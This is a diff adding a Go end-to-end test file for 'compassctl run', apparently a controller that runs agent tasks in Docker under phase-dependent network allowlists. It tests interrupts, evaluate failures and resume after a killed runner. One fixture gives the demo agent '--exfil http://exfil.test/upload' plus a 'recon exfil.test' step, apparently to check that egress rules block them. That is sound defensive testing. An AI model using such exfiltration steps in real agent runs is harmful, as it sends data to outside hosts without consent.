@@ -1,0 +1,214 @@
+// Package e2e tests `compassctl run` against the real Docker Engine: whole lifecycles in
+// both modes, their records, Ctrl-C in each phase, a killed runner resumed, and the demo.
+package e2e
+
+import (
+	"context"
+	"fmt"
+	"os"
+	"path/filepath"
+	"slices"
+	"strings"
+	"syscall"
+	"testing"
+	"time"
+
+	"github.com/compass-egress/compass-egress/controller"
+	"github.com/compass-egress/compass-egress/e2e/harness"
+)
+
+var h *harness.Harness
+
+func TestMain(m *testing.M) {
+	code := harness.Main(m, "run", &h)
+	if h != nil && h.Docker != nil {
+		ctx, cancel := context.WithTimeout(context.Background(), time.Minute)
+		removeDemoImages(ctx)
+		cancel()
+	}
+	os.Exit(code)
+}
+
+// taskYAML is a demo task whose steps the test chooses; {{ID}} is replaced by a name
+// unique to this run.
+func taskYAML(id, mode, extra string) string {
+	s := fmt.Sprintf(`task_id: %s
+provider: docker
+evaluation_mode: %s
+image: compass-demo-agent:latest
+baseline_network_policy: public
+run_network_policy: {network_mode: allowlist, allowed_hosts: ["model.test:443"]}
+evaluation_network_policy: {network_mode: allowlist, allowed_hosts: ["judge.test"]}
+`, id, mode)
+	if mode == "fresh" {
+		s += "evaluation_image: compass-demo-grader:latest\nevaluation_environment: {baseline_network_policy: no-network}\n"
+	}
+	return s + extra
+}
+
+const normalSteps = `prepare: ["recon exfil.test -o /work/recon.json"]
+run: ["agent --model https://model.test/v1/chat --exfil http://exfil.test/upload"]
+collect: ["pack /out/result.tar /work/answer.txt"]
+artifacts: [/out/result.tar]
+`
+
+// TestRunCtrlC interrupts a run in each phase: the run stops, the environments are
+// gone, the record says cancelled, and a cut evaluate step still had its baseline
+// restored before the close.
+func TestRunCtrlC(t *testing.T) {
+	demoImages(t)
+	tests := []struct {
+		name  string
+		mode  string
+		step  controller.StepName
+		steps string
+	}{
+		{"prepare", "shared", controller.StepPrepare, "prepare: [demo]\nrun: [agent]\nevaluate: [grade]\n"},
+		{"run", "shared", controller.StepRun, "run: [demo]\nevaluate: [grade]\n"},
+		{"evaluate shared", "shared", controller.StepEvaluate, "run: [\"demo sleep 1ms\"]\nevaluate: [demo]\n"},
+		{"evaluate fresh", "fresh", controller.StepEvaluate, "run: [\"demo sleep 1ms\"]\nevaluate: [demo]\n"},
+	}
+	for _, tc := range tests {
+		t.Run(tc.name, func(t *testing.T) {
+			id := h.Name("int")
+			dir := t.TempDir()
+			file := writeTask(t, dir, "task.yaml", taskYAML(id, tc.mode, tc.steps))
+			r := startRun(t, context.Background(), file, "--out", filepath.Join(dir, "out"))
+			taskDir := filepath.Join(dir, "out", id)
+			waitPhase(t, r, taskDir, tc.step)
+			r.signal(syscall.SIGINT)
+			code, out := r.wait(t, 2*time.Minute)
+			if code != 1 {
+				t.Errorf("exit status %d, want 1:\n%s", code, out)
+			}
+			rec, err := controller.ReadRecord(taskDir)
+			if err != nil {
+				t.Fatal(err)
+			}
+			if rec.Status != controller.StatusCancelled || rec.Ended == nil {
+				t.Errorf("record status %s, ended %v", rec.Status, rec.Ended)
+			}
+			i := slices.IndexFunc(rec.Steps, func(s controller.StepRecord) bool { return s.Name == tc.step })
+			if i < 0 || rec.Steps[i].Status != controller.StepCancelled {
+				t.Errorf("step %s not recorded as cancelled: %+v", tc.step, rec.Steps)
+			}
+			for _, e := range rec.Environments {
+				if e.State != controller.EnvClosed {
+					t.Errorf("environment %s is %s", e.ID, e.State)
+				}
+			}
+			if tc.step == controller.StepEvaluate {
+				last := rec.Transitions[len(rec.Transitions)-1]
+				wantPhase := map[string]string{"shared": "baseline", "fresh": "evaluation_baseline"}[tc.mode]
+				if !last.OK || last.Phase != wantPhase {
+					t.Errorf("last transition %+v, want the %s restore", last, wantPhase)
+				}
+			}
+			if left := taskLeftovers(t, id); len(left) > 0 {
+				t.Errorf("left behind: %v", left)
+			}
+		})
+	}
+}
+
+// TestRunEvaluateEndings ends the evaluate step with a non-zero exit and with its
+// timeout: either way the baseline comes back before the environment is closed.
+func TestRunEvaluateEndings(t *testing.T) {
+	demoImages(t)
+	tests := []struct {
+		name   string
+		steps  string
+		status controller.StepStatus
+	}{
+		{"non-zero exit", "evaluate: [\"grade --judge http://judge.test/ /no/such/archive\"]\n", controller.StepFailed},
+		{"timeout", "evaluate: [demo]\ntimeouts: {evaluate: 2s}\n", controller.StepTimedOut},
+	}
+	for _, tc := range tests {
+		t.Run(tc.name, func(t *testing.T) {
+			id := h.Name("end")
+			dir := t.TempDir()
+			file := writeTask(t, dir, "task.yaml", taskYAML(id, "shared", "run: [\"demo sleep 1ms\"]\n"+tc.steps))
+			code, out := startRun(t, context.Background(), file, "--out", filepath.Join(dir, "out")).wait(t, 3*time.Minute)
+			if code != 1 {
+				t.Errorf("exit status %d, want 1:\n%s", code, out)
+			}
+			rec, err := controller.ReadRecord(filepath.Join(dir, "out", id))
+			if err != nil {
+				t.Fatal(err)
+			}
+			var phases []string
+			for _, tn := range rec.Transitions {
+				if !tn.OK {
+					t.Errorf("transition failed: %+v", tn)
+				}
+				phases = append(phases, tn.Phase+":"+string(tn.ToMode))
+			}
+			want := []string{"baseline:public", "run:allowlist", "evaluation:allowlist", "baseline:public"}
+			if !slices.Equal(phases, want) {
+				t.Errorf("transitions %v, want %v", phases, want)
+			}
+			i := slices.IndexFunc(rec.Steps, func(s controller.StepRecord) bool { return s.Name == controller.StepEvaluate })
+			if i < 0 || rec.Steps[i].Status != tc.status {
+				t.Errorf("evaluate step: %+v", rec.Steps)
+			}
+			if last := rec.Steps[len(rec.Steps)-1]; last.Name != controller.StepClose || last.Mode != "public" || last.Status != controller.StepOK {
+				t.Errorf("close step %+v, want ok under public", last)
+			}
+			if left := taskLeftovers(t, id); len(left) > 0 {
+				t.Errorf("left behind: %v", left)
+			}
+		})
+	}
+}
+
+// TestRunResumeAfterKill kills the runner (SIGKILL: no clean-up at all) during a fresh
+// task's evaluation; --resume closes the evaluation environment it left and evaluates
+// again in a new one. The same kill in shared mode makes --resume refuse, with the reason.
+func TestRunResumeAfterKill(t *testing.T) {
+	demoImages(t)
+	for _, mode := range []string{"fresh", "shared"} {
+		t.Run(mode, func(t *testing.T) {
+			id := h.Name("kill")
+			dir := t.TempDir()
+			out := filepath.Join(dir, "out")
+			file := writeTask(t, dir, "task.yaml", taskYAML(id, mode, normalSteps+
+				"evaluate: [\"demo sleep 3s\", \"grade --judge http://judge.test/grade /out/result.tar\"]\n"))
+			r := startRun(t, context.Background(), file, "--out", out)
+			waitPhase(t, r, filepath.Join(out, id), controller.StepEvaluate)
+			r.signal(syscall.SIGKILL)
+			r.wait(t, time.Minute)
+
+			code, text := startRun(t, context.Background(), file, "--out", out, "--resume").wait(t, 3*time.Minute)
+			rec, err := controller.ReadRecord(filepath.Join(out, id))
+			if err != nil {
+				t.Fatal(err)
+			}
+			if mode == "shared" {
+				if code != 2 || !strings.Contains(text, "cannot resume task "+id) || !strings.Contains(text, "shared mode") {
+					t.Errorf("resume of shared task: exit %d:\n%s", code, text)
+				}
+				// Clean up what the killed run left, as the refusal tells the operator to.
+				ctx, cancel := context.WithTimeout(context.Background(), time.Minute)
+				defer cancel()
+				if out, err := h.Compassctl(ctx, "env", "close", "--task", id).CombinedOutput(); err != nil {
+					t.Errorf("env close: %v\n%s", err, out)
+				}
+				return
+			}
+			if code != 0 || rec.Status != controller.StatusSucceeded {
+				t.Fatalf("resume: exit %d, status %s (%s):\n%s", code, rec.Status, rec.Error, text)
+			}
+			if len(rec.Resumes) != 1 || rec.Resumes[0].From != controller.StepEvaluationOpen {
+				t.Errorf("resumes %+v", rec.Resumes)
+			}
+			for _, e := range rec.Environments {
+				if e.State != controller.EnvClosed {
+					t.Errorf("environment %s is %s", e.ID, e.State)
+				}
+			}
+			if left := taskLeftovers(t, id); len(left) > 0 {
+				t.Errorf("left behind: %v", left)
+			}
+		})
+	}
+}
